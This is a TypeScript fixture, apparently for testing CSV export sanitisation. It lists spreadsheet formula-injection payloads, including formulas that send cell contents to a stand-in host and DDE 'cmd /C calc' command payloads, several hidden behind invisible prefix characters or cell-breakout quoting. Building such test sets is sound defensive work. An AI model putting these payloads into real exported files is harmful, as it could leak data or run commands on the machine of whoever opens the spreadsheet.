/** Formulas as they are found in the wild: OWASP CSV Injection, payload lists, and what spreadsheets have functions for. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://x.example/?"&A1,"click")',
  '=HYPERLINK("http://x.example")\r\nsecond line',
  '=WEBSERVICE("http://x.example/"&A1)',
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"__DdeLink")',
  '=IMPORTXML(CONCAT("http://x.example/?v=";A1);"//a")',
  '=IMAGE("http://x.example/a.png")',
  '=INDIRECT("A1")',
  '=1+1";=2+2;"',
  '={=1+1}',
  '+1+1',
  '+SUM(1;2)',
  "+cmd|' /C calc'!A0",
  '-1+1',
  '-2+3+cmd|calc',
  '@SUM(1+1)',
  '@A1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
];

/** What a guard that looks at the first sign alone lets through. */
const BEFORE = [
  '',
  ' ',
  '   ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\0',
  '\uFEFF',
  '\u200B',
  '\u200E\u2060',
  '\u00A0',
  '\u00AD',
  '\u3000',
];

/** Ends of cells and rows inside a cell: a writer that quotes badly lets the formula begin a cell of its own. */
const BREAKOUTS = [
  '";=1+1;"',
  '"\r\n=1+1\r\n"',
  ';=1+1',
  ',=1+1',
  '\t=1+1',
  'a"\t"=1+1',
  '"";"=1+1"',
  "';=1+1",
];

/** Cells that must not become formulas in any spreadsheet: more than 300. */
export const INJECTIONS: readonly string[] = [
  ...FORMULAS.flatMap((formula) => BEFORE.map((before) => before + formula)),
  ...BREAKOUTS,
];
